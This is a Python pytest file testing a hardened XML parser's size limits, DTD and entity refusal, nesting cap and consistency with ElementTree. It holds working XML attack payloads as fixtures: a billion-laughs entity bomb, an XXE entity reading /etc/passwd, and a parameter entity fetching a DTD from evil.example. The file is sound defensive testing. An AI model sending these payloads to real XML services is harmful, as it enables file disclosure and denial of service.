"""Safe XML: size cap, DTD/entity refusal before parsing, expat's DTD hooks behind it, nesting
cap, and the same fields as ElementTree reads."""

from __future__ import annotations

import re
import time
from xml.sax.saxutils import escape

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from bot.gateway import xmlsafe
from bot.gateway.xmlsafe import XmlRejected, parse_xml
from tests.fuzz.xml_shapes import dtd_like, xml_documents, xml_safe_text

LIMIT = 65_536

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><Encrypt>&lol9;</Encrypt></xml>"""

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>&xxe;</ToUserName><Encrypt>abc</Encrypt></xml>"""

PARAMETER_ENTITY = b"""<!DOCTYPE xml [
 <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;
]>
<xml><Encrypt>abc</Encrypt></xml>"""


def test_flat_fields_and_nested_lists() -> None:
    fields = parse_xml(
        b"<xml><A><![CDATA[ one ]]></A><B>2</B><Empty></Empty><C/>"
        b"<List><Item>x</Item><Item><![CDATA[y]]></Item></List></xml>",
        max_bytes=LIMIT,
    )
    assert fields == {"A": " one ", "B": "2", "Empty": "", "C": "", "List": {"Item": ["x", "y"]}}


def test_first_occurrence_of_a_repeated_field_wins() -> None:
    assert parse_xml(b"<xml><A>1</A><A>2</A></xml>", max_bytes=LIMIT) == {"A": "1"}


@pytest.fixture
def parser_must_not_run(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_a: object, **_k: object) -> None:
        raise AssertionError("the XML parser ran on a body that should be refused before it")

    monkeypatch.setattr("bot.gateway.xmlsafe.parse_tree", fail)


@pytest.mark.usefixtures("parser_must_not_run")
@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        XXE,
        PARAMETER_ENTITY,
        b"\xef\xbb\xbf  \n<!doctype xml><xml/>",
        b"<xml><!ENTITY a 'b'></xml>",
        b"<!DoCtYpE xml SYSTEM 'http://evil.example/x.dtd'><xml/>",
    ],
    ids=["billion-laughs", "xxe", "parameter-entity", "bom-lowercase", "bare-entity", "mixed-case"],
)
def test_declarations_are_refused_before_parsing(body: bytes) -> None:
    with pytest.raises(XmlRejected, match="DTD or entity"):
        parse_xml(body, max_bytes=LIMIT)


def test_billion_laughs_is_refused_without_expansion() -> None:
    # expat alone spends ~150 ms before giving up on this body; the byte scan takes microseconds.
    started = time.perf_counter()
    for _ in range(100):
        with pytest.raises(XmlRejected):
            parse_xml(BILLION_LAUGHS, max_bytes=LIMIT)
    assert time.perf_counter() - started < 0.5


def test_utf16_cannot_smuggle_a_doctype_past_the_scan() -> None:
    with pytest.raises(XmlRejected, match="UTF-8"):
        parse_xml(XXE.decode().replace("UTF-8", "UTF-16").encode("utf-16"), max_bytes=LIMIT)


@pytest.mark.parametrize("body", [XXE, BILLION_LAUGHS, b"<!DOCTYPE xml><xml/>"])
def test_the_parser_refuses_declarations_even_if_the_scan_missed(
    monkeypatch: pytest.MonkeyPatch, body: bytes
) -> None:
    monkeypatch.setattr(xmlsafe, "_DECLARATION", re.compile(rb"(?!)"))
    with pytest.raises(XmlRejected, match="forbidden XML construct"):
        parse_xml(body, max_bytes=LIMIT)


def test_oversized_body_is_refused_before_parsing(parser_must_not_run: None) -> None:
    body = b"<xml><A>" + b"a" * LIMIT + b"</A></xml>"
    with pytest.raises(XmlRejected, match="exceeds"):
        parse_xml(body, max_bytes=LIMIT)


def test_body_at_the_limit_is_accepted() -> None:
    wrapper = len(b"<xml><A></A></xml>")
    body = b"<xml><A>" + b"a" * (1000 - wrapper) + b"</A></xml>"
    assert len(body) == 1000
    assert parse_xml(body, max_bytes=1000)["A"] == "a" * (1000 - wrapper)
    with pytest.raises(XmlRejected):
        parse_xml(body, max_bytes=999)


@pytest.mark.parametrize(
    "body",
    [b"", b"not xml", b"<xml><A>1</xml>", b"<xml><A>1</A>", b"<xml></xml><xml></xml>", b"\xff\xfe"],
)
def test_malformed_bodies_are_refused(body: bytes) -> None:
    with pytest.raises(XmlRejected, match=r"malformed|UTF-8"):
        parse_xml(body, max_bytes=LIMIT)


def test_deep_nesting_is_refused_not_a_recursion_error() -> None:
    depth = 5000
    body = b"<xml>" + b"<a>" * depth + b"x" + b"</a>" * depth + b"</xml>"
    with pytest.raises(XmlRejected, match="nested"):
        parse_xml(body, max_bytes=LIMIT)


def test_nesting_cap_counts_the_root_as_level_one() -> None:
    def nested(levels: int) -> bytes:  # <xml> plus `levels` elements inside it
        return b"<xml>" + b"<a>" * levels + b"x" + b"</a>" * levels + b"</xml>"

    deepest = xmlsafe.MAX_DEPTH - 1
    value = parse_xml(nested(deepest), max_bytes=LIMIT)["a"]
    for _ in range(deepest - 1):
        value = value["a"][0]
    assert value == "x"
    with pytest.raises(XmlRejected, match="nested"):
        parse_xml(nested(deepest + 1), max_bytes=LIMIT)


def test_template_card_depth_is_within_the_cap() -> None:
    body = (
        b"<xml><SelectedItems><SelectedItem><QuestionKey>q</QuestionKey><OptionIds>"
        b"<OptionId>1</OptionId></OptionIds></SelectedItem></SelectedItems></xml>"
    )
    fields = parse_xml(body, max_bytes=LIMIT)
    item = fields["SelectedItems"]["SelectedItem"][0]
    assert item == {"QuestionKey": ["q"], "OptionIds": [{"OptionId": ["1"]}]}


def test_rejection_is_a_value_error_with_a_reason() -> None:
    with pytest.raises(ValueError, match="exceeds") as info:
        parse_xml(b"<xml/>", max_bytes=3)
    assert isinstance(info.value, XmlRejected)
    assert "exceeds" in info.value.reason


def _elementtree_fields(data: bytes) -> dict[str, object] | None:
    """What ElementTree (the stdlib's C parser) reads from `data`, in parse_xml's shape;
    None where it refuses the document or the nesting is over the cap."""
    from xml.etree.ElementTree import Element, ParseError, fromstring

    def value(element: Element, depth: int) -> object:
        if len(element) == 0:
            return element.text or ""
        if depth >= xmlsafe.MAX_DEPTH:
            raise RecursionError
        children: dict[str, list[object]] = {}
        for child in element:
            children.setdefault(child.tag, []).append(value(child, depth + 1))
        return children

    try:
        root = fromstring(data)
        fields: dict[str, object] = {}
        for child in root:
            fields.setdefault(child.tag, value(child, 2))
    except (ParseError, ValueError, LookupError, RecursionError):
        return None
    return fields


_NAMES = st.sampled_from(["A", "B", "Item", "MemChangeList", "Encrypt"])
_TEXT = st.lists(
    st.one_of(
        xml_safe_text.map(escape),
        xml_safe_text.map(lambda t: f"<![CDATA[{t.replace(']]>', '')}]]>"),
        st.sampled_from(["&amp;", "&#x4e2d;", "<!-- c -->", "<?pi x?>", "\n  "]),
    ),
    max_size=3,
).map("".join)
_TREES = st.recursive(
    st.builds(lambda name, text: f"<{name}>{text}</{name}>", _NAMES, _TEXT),
    lambda kids: st.builds(
        lambda name, text, children, attr: (
            f"<{name}{attr}>{text}{''.join(children)}{text}</{name}>"
        ),
        _NAMES,
        _TEXT,
        st.lists(kids, max_size=3),
        st.sampled_from(["", ' id="1"', " a='&amp;'"]),
    ),
    max_leaves=12,
)
# Well-formed documents (duplicate names, mixed text, comments, nesting past the cap) and
# the fuzz shapes, most of which are broken.
_DOCUMENTS = st.one_of(
    st.lists(_TREES, max_size=4).map(lambda kids: f"<xml>{''.join(kids)}</xml>".encode()),
    xml_documents,
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=_DOCUMENTS)
def test_fields_are_what_elementtree_reads(data: bytes) -> None:
    """The expat builder and ElementTree agree on every document without a DTD: the same
    fields where both accept it, a refusal where ElementTree refuses it."""
    assume(not dtd_like(data) and b"\x00" not in data)
    declared = xmlsafe._ENCODING.match(data)
    if declared and declared.group(1).lower() not in (b"utf-8", b"utf8"):
        with pytest.raises(XmlRejected, match="UTF-8"):
            parse_xml(data, max_bytes=1 << 20)
        return
    expected = _elementtree_fields(data)
    try:
        fields = parse_xml(data, max_bytes=1 << 20)
    except XmlRejected:
        assert expected is None
        return
    assert fields == expected
